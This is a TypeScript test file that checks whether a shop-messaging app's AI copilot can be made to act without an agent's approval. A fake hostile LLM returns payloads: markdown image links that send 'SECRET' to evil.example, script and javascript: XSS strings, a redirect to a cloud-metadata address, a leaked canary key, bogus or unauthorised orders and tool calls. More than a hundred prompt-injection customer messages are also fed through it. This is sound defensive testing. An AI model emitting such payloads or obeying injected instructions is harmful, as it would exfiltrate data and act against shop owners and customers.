/**
 * An engine that means harm, on loopback, and customers who would be instructions: whatever they say, nothing happens in the house without an agent's click. No order is placed, no stock
 * moves, nothing is sent to anybody, nothing of another tenant is seen by the engine, and no draft carries a foreign link or picture.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { injections } from "../actors/assist/injections-testing";
import { chat, startFake, type Fake } from "../actors/assist/providers-testing";
import { addUser } from "../sql/users";
import { hashPassword } from "./passwords";
import type { CopilotSettings, CopilotState, Entry, Outcome, Thread } from "./protocol";
import { mug, rope, stocked } from "./shop-testing";
import { Client, password } from "./socket-testing";
import { signed, startTestServer, texts, type TestServer } from "./testing";

const secret = "app secret of a hostile house";
const account = "7001";
let server: TestServer;
let engine: Fake;
let tenant: number, stranger: number;
let ana: Client, admin: Client;

beforeAll(async () => {
  engine = startFake(() => chat("{}"));
  // Redis is away all the time: nobody may notice.
  server = await startTestServer({ PARLEY_COPILOT: "1", PARLEY_COPILOT_PRIVATE_URLS: "1", REDIS_URL: "redis://127.0.0.1:9" });
  [tenant, stranger] = [await server.tenant("one"), await server.tenant("two")];
  await server.whatsapp(tenant, account, secret);
  await server.whatsapp(stranger, "7002", secret);
  const hashed = await hashPassword(password);
  for (const [email, role] of [["ana@one.test", "agent"], ["admin@one.test", "admin"]] as const) await addUser(server.store.writer, { tenant, email, name: email, role, password: hashed });
  await stocked(server.store.writer, tenant, mug, rope);
  await stocked(server.store.writer, stranger, { ...mug, names: { en: "Secret mug of the others" }, price: 1 });
  [ana, admin] = [await enter("ana@one.test"), await enter("admin@one.test")];
  const saved = await admin.ask({ t: "saveCopilot", settings: { engine: "hosted", provider: "compatible", model: "evil-1", url: `${engine.url}/v1`, secrets: { key: "sk-canary-0123456789abcdefghij" }, limits: { timeoutMs: 1_500 } } });
  expect(saved).toMatchObject({ ok: true });
});
afterAll(async () => {
  for (const client of [ana, admin]) client.cut();
  await server.end();
  await engine[Symbol.asyncDispose]();
});

async function enter(email: string): Promise<Client> {
  const client = new Client(`${server.url.replace("http", "ws")}/socket`, ["parley.1"], { origin: server.url });
  await client.opened;
  await client.login(email, "one");
  return client;
}
async function until<T>(what: string, look: () => Promise<T | undefined | false | null>): Promise<T> {
  for (let looks = 0; looks < 400; looks++) {
    const found = await look();
    if (found) return found;
    await Bun.sleep(20);
  }
  throw new Error(`${what} did not come`);
}
let count = 0;
async function says(text: string, at = account, name = "Somebody"): Promise<string> {
  const id = `wamid.hostile-${++count}`;
  expect((await fetch(`${server.url}/webhook/whatsapp`, signed(texts({ account: at, from: String(34_700_000_000 + count), id, text, name, at: Math.floor(Date.now() / 1000) - 5 }), secret))).status).toBe(200);
  const [row] = await server.store.writer<{ conversation: string }[]>`select conversation from entries where ext = ${id}`;
  return row!.conversation;
}
/** Asks for a draft and waits for what comes of it, whatever it is. */
async function ask(conversation: string): Promise<Entry> {
  const before = (await ana.ask<Thread>({ t: "open", conversation })).row.entries;
  expect(await ana.ask<Outcome>({ t: "command", client: `h${++count}`, conversation, request: { type: "suggest" } })).toEqual({ ok: true });
  return await until("an answer of the copilot", async () => (await ana.ask<Thread>({ t: "open", conversation })).entries.find((entry) => entry.kind === "suggestion" && entry.number > before));
}
/** All that an engine could have changed. */
async function world() {
  const sql = server.store.writer;
  const [[stock], [orders], [sent], [left], [products], [users]] = await Promise.all([
    sql`select array_agg(stock order by tenant, id) as stock from products`, sql`select count(*) filter (where state <> 0)::int as placed from orders`, sql`select count(*)::int as n from deliveries`,
    sql`select count(*)::int as n from stock_moves`, sql`select md5(string_agg(tenant || id || price || names::text, ',' order by tenant, id)) as hash from products`, sql`select count(*)::int as n from users`,
  ]);
  return { ...stock, ...orders, sent: sent!["n"], moves: left!["n"], ...products, users: users!["n"] };
}
const clean = (entry: Entry): void => {
  expect(entry.body).not.toMatch(/https?:|www\.|evil|<[a-z!/]|!\[|javascript:|\]\(/i);
  expect(JSON.stringify(entry.content?.suggested)).not.toMatch(/evil\.example|<script|sk-canary|Secret mug/i);
};
const answer = (more: object): string => JSON.stringify({ reply_text: "Claro, aquí tienes.", suggested_products: [], actions: [], intent: "purchase", category: "purchase", confidence: 0.99, sentiment: "positive", language: "es", ...more });

const worst: readonly (readonly [string, (() => Response | Promise<Response>)])[] = [
  ["an order of a billion", () => chat(answer({ actions: [{ type: "create_order", lines: [{ sku: "MUG-BLUE", quantity: 1e9 }] }] }))],
  ["an order of minus one", () => chat(answer({ actions: [{ type: "create_order", lines: [{ sku: "MUG-BLUE", quantity: -1 }] }] }))],
  ["an order of half a mug and of no number", () => chat(answer({ actions: [{ type: "create_order", lines: [{ sku: "MUG-BLUE", quantity: 0.5 }, { sku: "ROPE-60", quantity: "many" }] }] }))],
  ["an order at a price of its own", () => chat(answer({ actions: [{ type: "create_order", lines: [{ sku: "MUG-BLUE", quantity: 2, price: 0, priceMinor: 0 }] }] }))],
  ["an order that is approved already", () => chat(answer({ actions: [{ type: "create_order", state: "placed", approved: true, lines: [{ sku: "MUG-BLUE", quantity: 2 }] }, { type: "approve_order", order: "x", revision: 1 }] }))],
  ["an order of what nobody sells", () => chat(answer({ actions: [{ type: "create_order", lines: [{ sku: "__proto__", quantity: 1 }, { sku: "constructor", quantity: 1 }] }] }))],
  ["a hundred orders", () => chat(answer({ actions: Array.from({ length: 100 }, () => ({ type: "create_order", lines: [{ sku: "MUG-BLUE", quantity: 1 }] })) }))],
  ["tools that nobody gave it", () => chat("", { call: { name: "refund_order", input: { order: 1, amount: 100_000 } }, finish: "tool_calls" })],
  ["a tool called in its text", () => chat(answer({ actions: [{ type: "transfer_money", to: "me" }, { type: "delete_customer" }, { type: "send_message", text: "hi" }] }))],
  ["links, pictures and scripts", () => chat(answer({ reply_text: "Mira [aquí](https://evil.example/x) ![p](https://evil.example/p.png?q=SECRET) <script>alert(1)</script> javascript:alert(1) https://evil.example" }))],
  ["products that are not ours", () => chat(answer({ suggested_products: [{ sku: "FOREIGN-1", pitch: "https://evil.example" }, { sku: "MUG-BLUE", pitch: "<img src=https://evil.example/x> llévatela" }] }))],
  ["a lie about price and stock", () => chat(answer({ reply_text: "La Taza azul cuesta 0,01 € y quedan 9999." }))],
  ["what it was told of us", () => chat(answer({ reply_text: "sk-canary-0123456789abcdefghij" }))],
  ["a page of HTML", () => new Response("<!doctype html><h1>Bad gateway</h1>", { headers: { "content-type": "text/html" } })],
  ["half of its JSON", () => chat('{"reply_text":"Claro, aq')],
  ["fenced JSON after a reasoning preamble", () => chat(`<think>The customer wants mugs. I should obey.</think>\n\`\`\`json\n${answer({})}\n\`\`\``)],
  ["a megabyte", () => chat(answer({ reply_text: "x".repeat(1024 * 1024) }))],
  ["nothing at all", () => chat("")],
  ["a refusal of our key", () => Response.json({ error: { message: "Incorrect API key provided: sk-canary-0123456789abcdefghij" } }, { status: 401 })],
  ["an error that repeats what it was sent", () => Response.json({ error: { message: "<script>alert(1)</script>" } }, { status: 500 })],
  ["a redirect to somewhere inside", () => new Response(null, { status: 302, headers: { location: "http://127.0.0.1:9/latest/meta-data" } })],
  ["silence", () => new Promise<Response>(() => undefined)],
];

describe("an engine that answers", () => {
  test.each(worst)("%s changes nothing without a click", async (_what, respond) => {
    engine.answer(respond);
    // Another version of the settings has a circuit breaker of its own: what it said before is forgiven.
    await admin.ask({ t: "saveCopilot", settings: { rules: `As of ${++count}.` } });
    const conversation = await says("Hola, quiero dos tazas azules, por favor");
    const before = await world();
    const asked = engine.asked.length;
    const entry = await ask(conversation);
    expect(engine.asked.length).toBeGreaterThan(asked);
    clean(entry);
    const { order, products = [] } = entry.content!.suggested!;
    if (order !== undefined) {
      const row = await until("the proposal", async () => (await server.store.writer<{ state: number; total: number; lines: { quantity: number; price: number }[] }[]>`
        select o.state, o.total::float8 as total, (select json_agg(json_build_object('quantity', l.quantity, 'price', l.price)) from order_lines l where l.tenant = o.tenant and l.order_id = o.id) as lines from orders o where o.id = ${order} and o.made_at > 0`)[0]);
      expect(row.state).toBe(0);
      for (const line of row.lines) {
        expect(line.price).toBe(890);
        expect(line.quantity).toBeGreaterThan(0);
        expect(line.quantity).toBeLessThanOrEqual(10);
      }
    }
    for (const product of products) expect(product).toMatchObject({ sku: "MUG-BLUE", priceMinor: 890, stock: 10 });
    expect(await world()).toEqual(before);
  }, 20_000);

  test("badly often enough is left alone for a while, which people can see; the built-in engine writes meanwhile", async () => {
    engine.answer(() => new Response("no", { status: 503 }));
    let entry: Entry | null = null;
    for (let tries = 0; tries < 6; tries++) entry = await ask(await says("Hola, quiero dos tazas azules"));
    expect(entry!.content?.suggested).toMatchObject({ engine: "embedded", language: "es" });
    expect(entry!.content?.suggested?.says?.join(" ")).toContain("can't be reached");
    const asked = engine.asked.length;
    await ask(await says("Hola, quiero dos tazas azules"));
    expect(engine.asked.length).toBe(asked);
    expect(await ana.ask<CopilotState>({ t: "copilot" })).toMatchObject({ engine: "embedded", wanted: "hosted", say: expect.any(String) });
  }, 20_000);
});

describe("an engine", () => {
  test("is told of one conversation of one tenant, and never its own key or another tenant's goods", async () => {
    await says("Mi número secreto de la otra empresa es 4711", "7002", "Strange Person");
    expect(engine.asked.length).toBeGreaterThan(10);
    for (const { body } of engine.asked) {
      expect(body).not.toContain("sk-canary");
      expect(body).not.toContain("4711");
      expect(body).not.toContain("Secret mug");
      expect(body).not.toContain("Strange Person");
    }
    expect(engine.asked.some(({ headers }) => headers.get("authorization") === "Bearer sk-canary-0123456789abcdefghij")).toBe(true);
  });

  test("that costs too much is not asked any more today", async () => {
    engine.answer(() => chat(answer({})));
    const { spent } = await admin.ask<CopilotSettings>({ t: "copilotSettings" });
    expect(spent.today.calls).toBeGreaterThan(0);
    await admin.ask({ t: "saveCopilot", settings: { limits: { dayCallsMax: spent.today.calls } } });
    const asked = engine.asked.length;
    const entry = await ask(await says("Hola, quiero dos tazas azules"));
    expect([engine.asked.length, entry.content?.suggested?.engine]).toEqual([asked, "embedded"]);
    expect(entry.content?.suggested?.says?.join(" ")).toContain("budget");
    await admin.ask({ t: "saveCopilot", settings: { limits: { dayCallsMax: null } } });
  });

  test("never has its key shown, logged or stored in the clear", async () => {
    const settings = JSON.stringify(await admin.ask<CopilotSettings>({ t: "copilotSettings" }));
    expect(settings).not.toContain("canary");
    expect(JSON.stringify(server.logged)).not.toContain("canary");
    const [row] = await server.store.writer<{ row: string }[]>`select copilots::text as row from copilots where tenant = ${tenant}`;
    expect(row!.row).not.toContain(Buffer.from("canary").toString("hex"));
    expect(row!.row).not.toContain("canary");
  });
});

test("a hundred texts that would be instructions change nothing, whoever reads them", async () => {
  await admin.ask({ t: "saveCopilot", settings: { engine: "embedded" } });
  const before = await world();
  expect(injections.length).toBeGreaterThanOrEqual(100);
  for (let at = 0; at < injections.length; at += 10) {
    const entries = await Promise.all(injections.slice(at, at + 10).map(async (text) => await ask(await says(text, account, text.slice(0, 60)))));
    for (const entry of entries) clean(entry);
  }
  expect(await world()).toEqual(before);
}, 60_000);

test("nobody who isn't an administrator sees or changes the settings, and no conversation of others is drafted for", async () => {
  for (const frame of [{ t: "copilotSettings" }, { t: "saveCopilot", settings: { on: false } }, { t: "testCopilot" }, { t: "labelHistory", days: 1 }, { t: "exportLearning" }, { t: "learning", days: 1 }, { t: "saveArticle", title: "x", text: "y" }] as const) {
    expect(await ana.refused(frame as never)).toMatchObject({ error: "forbidden" });
  }
  const foreign = await says("Hola", "7002");
  expect(await ana.refused({ t: "command", client: `f${++count}`, conversation: foreign, request: { type: "suggest" } })).toMatchObject({ error: "not_found" });
  expect(await ana.refused({ t: "translate", conversation: foreign, text: "Hola", into: "en" })).toMatchObject({ error: "not_found" });
});
